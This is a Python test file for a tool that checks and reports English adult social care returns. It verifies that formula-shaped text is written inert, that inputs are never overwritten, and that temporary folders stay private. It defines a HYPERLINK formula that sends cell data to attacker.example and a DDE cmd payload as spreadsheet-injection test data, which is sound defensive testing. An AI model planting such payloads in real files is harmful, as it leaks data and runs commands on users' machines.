"""One way out: text from another organisation's file never becomes a formula in what ascof-xl writes, no
output lands on an input or a folder, and staged copies live in a private folder removed however a run ends.

Every hostile file is built here; each check reads the written bytes back (the workbook's XML, the CSV's
fields), not ascof-xl's own idea of what it wrote.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from ascof_xl.cli import main as cli
from ascof_xl.errors import AscofError
from ascof_xl.outputs.paths import check_outputs
from ascof_xl.outputs.temporary import private_folder
from ascof_xl.render import render_csv
from ascof_xl.samples import input_kinds
from ascof_xl.templates.checks import checks_of
from ascof_xl.templates.generate import build_workbook
from ascof_xl.templates.layout import HEADER_ROW, VALIDATION_SHEET, layout_of
from ascof_xl.templates.output import save_atomically
from ascof_xl.templates.samples import fill, salt_sample

SAMPLES = Path(__file__).resolve().parents[1] / "ascof_xl" / "samples"
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
SALT = ("salt-2018-19", "2018-19")


# --- reading back what was written ---------------------------------------------------------------

def formulas(path: Path) -> list[str]:
    """The text of every <f> element in every worksheet of an .xlsx: the formulas Excel would run."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?>(.*?)</(?:\w+:)?f>", xml, re.S)
    return found


def strings(path: Path) -> str:
    """Every string the workbook stores (shared strings and inline strings), as one text."""
    with zipfile.ZipFile(path) as archive:
        return "\n".join(archive.read(n).decode("utf-8") for n in archive.namelist()
                         if n == "xl/sharedStrings.xml" or n.startswith("xl/worksheets/"))


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# --- a return whose breach reason is a formula -----------------------------------------------------

@pytest.fixture(scope="module")
def hostile_return(tmp_path_factory) -> Path:
    """A SALT return with a subset breach (18-64 mental health direct payments above their whole) whose
    explanation on the Validation sheet is a HYPERLINK formula, stored as text behind a space by another
    organisation (a reason is read trimmed, so it reaches the findings starting with '=')."""
    layout = layout_of(*SALT)
    cells = salt_sample(layout)
    part, whole = layout.tables["LTS001b_T1a"], layout.tables["LTS001a_T1a"]
    part_cell = (part.table.sheet, *part.grid_cell("mh", "dp"))
    whole_cell = (whole.table.sheet, *whole.grid_cell("mh", "dp"))
    book = fill(build_workbook(*SALT, published=[]), cells | {part_cell: cells[whole_cell] + 2})
    ids = [c.id for c in checks_of(layout)]
    target = book[VALIDATION_SHEET].cell(row=HEADER_ROW + 1 + ids.index("LTS001b.within_LTS001a.18-64"), column=6)
    target.value, target.data_type = " " + HYPERLINK, "s"  # text; read as a reason once its space is trimmed
    path = save_atomically(book, tmp_path_factory.mktemp("return") / "salt.xlsx")
    assert not any("HYPERLINK" in f for f in formulas(path))
    return path


def test_validate_report_writes_a_formula_shaped_breach_reason_as_text(hostile_return, tmp_path):
    report = tmp_path / "findings.xlsx"
    assert cli(["validate", str(hostile_return), "--report", str(report)]) == 0  # explained: ready
    assert not any("HYPERLINK" in f or "attacker" in f for f in formulas(report))
    assert "attacker.example" in strings(report)  # the reason is there, as text


def test_the_macro_validation_sheet_writes_it_as_text(hostile_return, tmp_path):
    output = tmp_path / "checked.xlsx"
    assert cli(["macro", "validate-workbook", str(hostile_return), "-o", str(output)]) == 0
    written = formulas(output)
    assert written  # the template's own rule formulas are still formulas
    assert not any("attacker" in f for f in written)
    assert strings(output).count("attacker.example") >= 2  # the rule list's reason and the findings' copy


# --- CSV fields ------------------------------------------------------------------------------------

def test_csv_text_fields_that_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers():
    row = {"a": "=1+1", "b": "+44 1234", "c": "-2+3", "d": DDE, "e": "\tx", "f": "\rx", "g": "Leeds",
           "h": -1.5, "i": -3, "j": 0.25}
    fields = list(csv.reader(io.StringIO(render_csv([row], list(row)), newline="")))[1]
    assert fields[:7] == ["'=1+1", "'+44 1234", "'-2+3", "'" + DDE, "'\tx", "'\rx", "Leeds"]
    assert fields[7:] == ["-1.5", "-3", "0.25"]


def _survey_files(folder: Path, code: str) -> tuple[Path, Path]:
    """The sample ASCS files with the first council's LaCode replaced by `code`."""
    paths = []
    for name in ("ascs-responses.csv", "ascs-strata.csv"):
        text = (SAMPLES / name).read_text(encoding="utf-8")
        rows = list(csv.reader(io.StringIO(text)))
        for row in rows[1:]:
            if row[0] == "111":
                row[0] = code
        path = folder / name
        with path.open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows(rows)
        paths.append(path)
    return paths[0], paths[1]


@pytest.mark.parametrize("code", ["=1+1", DDE])
def test_survey_csv_writes_a_hostile_council_code_inert(code, tmp_path, capsys):
    responses, strata = _survey_files(tmp_path, code)
    assert cli(["survey", "ascs", str(responses), "--strata", str(strata), "--year", "2023-24", "--format", "csv"]) == 0
    councils = {r["council"] for r in csv_rows(capsys.readouterr().out)}
    assert councils == {"'" + code, "112"}


def _extract_rows() -> tuple[list[str], list[dict[str, str]]]:
    with (SAMPLES / "cld-extract.csv").open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def _write_extract(path: Path, header: list[str], rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, header)
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_cld_csv_writes_a_hostile_la_code_inert(tmp_path, capsys):
    header, rows = _extract_rows()
    first = rows[0]["LA_Code"]
    hostile = [r | {"LA_Code": "=1+1"} if r["LA_Code"] == first else r for r in rows]
    extract = _write_extract(tmp_path / "extract.csv", header, hostile)
    cli(["cld", "measures", str(extract), "--period", "2024-25", "--format", "csv"])
    out = csv_rows(capsys.readouterr().out)
    assert {r["council"] for r in out} == {"'=1+1", next(r["LA_Code"] for r in rows if r["LA_Code"] != first)}
    assert {r["council_name"] for r in out if r["council"] == "'=1+1"} == {"unknown council code =1+1"}


# --- outputs over inputs and onto folders ------------------------------------------------------------

def _refused(argv: list[str], inputs: list[Path], capsys) -> str:
    before = {p: p.read_bytes() for p in inputs}
    assert cli(argv) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert {p: p.read_bytes() for p in inputs} == before
    return err


def test_cld_measures_and_quality_refuse_to_write_over_the_extract(tmp_path, capsys):
    extract = tmp_path / "extract.csv"
    extract.write_bytes((SAMPLES / "cld-extract.csv").read_bytes())
    for action in (["measures", "--period", "2024-25"], ["quality"]):
        err = _refused(["cld", action[0], str(extract), *action[1:], "-o", str(extract)], [extract], capsys)
        assert f"would write over the input {extract}" in err


def test_validate_refuses_to_write_its_report_over_the_return(hostile_return, capsys):
    assert "would write over the input" in _refused(
        ["validate", str(hostile_return), "--report", str(hostile_return)], [hostile_return], capsys)


def test_a_link_or_a_hard_link_to_an_input_is_the_input(hostile_return, tmp_path, capsys):
    symbolic, hard = tmp_path / "link.xlsx", tmp_path / "hard.xlsx"
    symbolic.symlink_to(hostile_return)
    os.link(hostile_return, hard)
    for alias in (symbolic, hard):
        assert "would write over the input" in _refused(
            ["validate", str(hostile_return), "--report", str(alias)], [hostile_return], capsys)


def test_macro_refuses_its_output_over_the_book_and_writes_the_briefing_only_where_asked(tmp_path, capsys):
    book = tmp_path / "ASCOF briefing Hartlepool 2023-24.xlsx"
    workbook = Workbook()
    workbook.active["A1"] = "an officer's own notes"
    workbook.save(book)
    _refused(["macro", "build-report", str(book), "-o", str(book), "--council", "Hartlepool", "--year", "2023-24"],
             [book], capsys)
    # With -o elsewhere the briefing goes there alone: the book that shares the briefing's default name is untouched.
    before = book.read_bytes()
    assert cli(["macro", "build-report", str(book), "-o", str(tmp_path / "other.xlsx"), "--council", "Hartlepool",
                "--year", "2023-24"]) == 0
    assert book.read_bytes() == before and (tmp_path / "other.xlsx").is_file()


def test_report_pdf_onto_a_folder_is_refused_before_anything_is_written(tmp_path, capsys):
    (tmp_path / "briefing.pdf").mkdir()
    err = _refused(["report", "--council", "Hartlepool", "--pdf", "-o", str(tmp_path / "briefing.xlsx")], [], capsys)
    assert "is a folder" in err
    assert not (tmp_path / "briefing.xlsx").exists()


def test_an_output_that_is_a_folder_is_refused_for_any_command(tmp_path, capsys):
    strata = tmp_path / "strata.csv"
    strata.write_bytes((SAMPLES / "ascs-strata.csv").read_bytes())
    assert "is a folder" in _refused(["sample", "ascs-strata", "-o", str(tmp_path)], [strata], capsys)
    assert "is a folder" in _refused(["cld", "quality", str(SAMPLES / "cld-extract.csv"), "-o", str(tmp_path)],
                                     [], capsys)


def test_check_outputs_passes_distinct_files_and_ignores_absent_options(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("a\n1\n")
    check_outputs([source, None], [tmp_path / "out.csv", None])  # a new file beside the input: fine
    with pytest.raises(AscofError, match="would write over"):
        check_outputs([source], [tmp_path / "." / "in.csv"])


# --- private temporary folders ------------------------------------------------------------------------

def test_a_private_folder_is_owner_only_and_removed_when_the_block_fails(tmp_path):
    with pytest.raises(RuntimeError):
        with private_folder("test", within=tmp_path) as folder:
            assert stat.S_IMODE(folder.stat().st_mode) == 0o700
            (folder / "staged.parquet").write_bytes(b"personal data")
            raise RuntimeError("the run fails")
    assert not folder.exists()
    assert list(tmp_path.iterdir()) == []


def test_the_cld_staged_copy_lives_in_a_private_folder_removed_after_a_failing_run(tmp_path, monkeypatch):
    from ascof_xl.cld import load, measures, parse_period

    seen = []
    original = load.stage

    def watched(con, source):
        original(con, source)
        folder = Path(source.staged).parent
        seen.append((folder, stat.S_IMODE(folder.stat().st_mode), Path(source.staged).exists()))

    monkeypatch.setattr(load, "stage", watched)
    header, _ = _extract_rows()
    empty = _write_extract(tmp_path / "header-only.csv", header, [])  # staged, then refused: no data rows
    spill = tmp_path / "spill"
    spill.mkdir()
    with pytest.raises(AscofError, match="no data rows"):
        measures.compute_measures([empty], parse_period("2024-25"), temp_directory=str(spill))
    assert len(seen) == 1
    folder, mode, staged = seen[0]
    assert folder.parent == spill and mode == 0o700 and staged
    assert not folder.exists() and list(spill.iterdir()) == []


# --- Client Level Data that cannot be read safely is a located finding ---------------------------------

def test_a_future_period_end_is_an_error_and_supersedes_nothing(tmp_path, capsys):
    from ascof_xl.cld import check_files, compute_measures, parse_period

    header, rows = _extract_rows()
    extract = _write_extract(tmp_path / "extract.csv", header, rows)
    council = rows[0]["LA_Code"]
    late = [r | {"Reporting_Period_Start_Date": "2024-04-01", "Reporting_Period_End_Date": "2099-12-31"}
            for r in rows if r["LA_Code"] == council][:5]
    future = _write_extract(tmp_path / "future.csv", header, late)
    report = check_files([extract, future])
    found = [f for f in report["findings"] if f.code == "cld.future-period-end"]
    assert [(f.severity, f.location.file, f.location.row, f.location.column, f.location.value) for f in found] == [
        ("error", str(future), 2, "Reporting_Period_End_Date", "2099-12-31")]
    period = parse_period("2024-25")
    alone = compute_measures([extract], period)["rows"]
    assert compute_measures([extract, future], period)["rows"] == alone  # the real submissions still count
    assert cli(["cld", "measures", str(extract), str(future), "--period", "2024-25", "--format", "csv"]) == 1
    assert "error: " in capsys.readouterr().err


def _month_first(text: str) -> str:
    year, month, day = text.split("-")
    return f"{month}/{day}/{year}"


def test_month_first_dates_are_a_located_error(tmp_path):
    from ascof_xl.cld import check_files

    header, rows = _extract_rows()
    changed = [bool(re.fullmatch(r"\d{4}-\d\d-\d\d", r["Event_Start_Date"])) for r in rows]
    written = [r | {"Event_Start_Date": _month_first(r["Event_Start_Date"])} if c else r for r, c in zip(rows, changed)]
    extract = _write_extract(tmp_path / "extract.csv", header, written)
    unreadable = [(line, r["Event_Start_Date"]) for line, (r, c) in enumerate(zip(written, changed), start=2)
                  if c and int(r["Event_Start_Date"][3:5]) > 12]  # mm/dd/yyyy with a day over 12
    found = [f for f in check_files([extract])["findings"] if f.code == "cld.month-first-dates"]
    assert len(found) == 1
    assert (found[0].severity, found[0].location.row, found[0].location.column, found[0].location.value) == (
        "error", *unreadable[0][:1], "Event_Start_Date", unreadable[0][1])
    assert found[0].message.startswith(f"{len(unreadable):,} dates are written month first")


def test_dates_no_file_tells_the_order_of_are_a_warning_and_day_first_files_pass(tmp_path):
    from ascof_xl.cld import check_files

    header, rows = _extract_rows()
    few = [r | {"Event_Start_Date": "03/04/2024", "Event_End_Date": "", "Date_of_Death": ""} for r in rows[:3]]
    few = [r | {k: "" if "/" in r[k] else r[k] for k in ("Reporting_Period_Start_Date", "Reporting_Period_End_Date")}
           for r in few]
    ambiguous = _write_extract(tmp_path / "ambiguous.csv", header, few)
    found = [f for f in check_files([ambiguous])["findings"] if f.code == "cld.ambiguous-dates"]
    assert [(f.severity, f.location.row, f.location.value) for f in found] == [("warning", 2, "03/04/2024")]
    day_first = _write_extract(tmp_path / "day-first.csv", header,
                               [few[0] | {"Event_End_Date": "25/04/2024"}, *few[1:]])
    assert not [f for f in check_files([day_first])["findings"] if "dates" in f.code]


def test_unknown_council_codes_are_located_warnings_and_named_in_the_rows(tmp_path):
    from ascof_xl.cld import check_files, compute_measures, parse_period

    header, rows = _extract_rows()
    councils = sorted({r["LA_Code"] for r in rows})
    relabelled = [r | {"LA_Code": {councils[0]: "E99999999", councils[1]: "XYZ"}[r["LA_Code"]]} for r in rows]
    extract = _write_extract(tmp_path / "extract.csv", header, relabelled)
    found = {f.location.value: f for f in check_files([extract])["findings"] if f.code == "cld.unknown-council"}
    assert set(found) == {"E99999999", "XYZ"}
    for code, finding in found.items():
        first = next(n for n, r in enumerate(relabelled, start=2) if r["LA_Code"] == code)
        assert (finding.severity, finding.location.row, finding.location.column) == ("warning", first, "LA_Code")
    names = {r["council"]: r["council_name"] for r in compute_measures([extract], parse_period("2024-25"))["rows"]}
    assert names == {"E99999999": "unknown council code E99999999", "XYZ": "unknown council code XYZ"}


def test_samples_declare_what_the_checks_expect():
    assert "not after today" in " ".join(input_kinds()["cld-extract"].columns)


def test_excel_gets_formula_shaped_text_with_its_text_prefix_and_a_file_gets_a_string_cell(tmp_path):
    """Through xlwings, text is handed to Excel as typed, so '=...' needs Excel's apostrophe (kept out of
    the cell's value); through openpyxl the cell is a string. Numbers and plain text pass as they are."""
    from tests.excel_rules import App

    from ascof_xl.excel.books import OpenpyxlBook, XlwingsBook

    rows = [[HYPERLINK, "+1", "-x", DDE, "Leeds", -1.5, None]]
    opened = tmp_path / "opened.xlsx"
    Workbook().save(opened)
    in_excel = XlwingsBook(App().books.open(opened))
    in_excel.write("Findings", rows)
    sheet = in_excel.book.workbook["Findings"]
    assert [sheet.cell(1, c).value for c in range(1, 8)] == rows[0]
    assert [sheet.cell(1, c).data_type for c in range(1, 6)] == ["s"] * 5
    path = tmp_path / "mine.xlsx"
    Workbook().save(path)
    on_file = OpenpyxlBook(path)
    on_file.write("Findings", rows)
    on_file.save(tmp_path / "out.xlsx")
    assert formulas(tmp_path / "out.xlsx") == []
    assert on_file.read("Findings")[0][:6] == rows[0][:6]


def test_cld_quality_json_gives_each_finding_as_plain_fields(tmp_path, capsys):
    import json

    header, rows = _extract_rows()
    relabelled = [r | {"LA_Code": "XYZ"} if r["LA_Code"] == rows[0]["LA_Code"] else r for r in rows]
    extract = _write_extract(tmp_path / "extract.csv", header, relabelled)
    assert cli(["cld", "quality", str(extract), "--format", "json"]) == 0  # a warning: exit 0
    captured = capsys.readouterr()
    findings = [f for f in json.loads(captured.out)["findings"] if f["code"] == "cld.unknown-council"]
    assert findings == [{"code": "cld.unknown-council", "severity": "warning", "file": str(extract), "sheet": None,
                         "cell": None, "row": 2, "column": "LA_Code", "value": "XYZ", "message": findings[0]["message"],
                         "explanation": None}]
    assert f"warning: {extract}, line 2, LA_Code (value 'XYZ')" in captured.err


def test_benchmark_csv_writes_a_formula_shaped_council_name_from_a_published_file_inert(tmp_path, shared_data, capsys):
    source = shared_data / "ascof" / "ascof-outcomes-2017-18-to-2023-24.csv"
    with source.open(encoding="utf-8-sig", newline="") as handle:
        rows = [r for r in csv.reader(handle)]
    hostile = [rows[0]] + [r[:1] + [HYPERLINK] + r[2:] if r[2] == "E06000002" else r
                           for r in rows[1:] if r[0] == "2023-24"]
    data = tmp_path / "published.csv"
    with data.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(hostile)
    assert cli(["benchmark", "--data", str(data), "--council", "Hartlepool", "--measure", "2A", "--group", "region",
                "--format", "csv"]) == 0
    names = {r["area_code"]: r["name"] for r in csv_rows(capsys.readouterr().out)}
    assert names["E06000002"] == "'" + HYPERLINK
    assert names["E06000001"] == "Hartlepool"
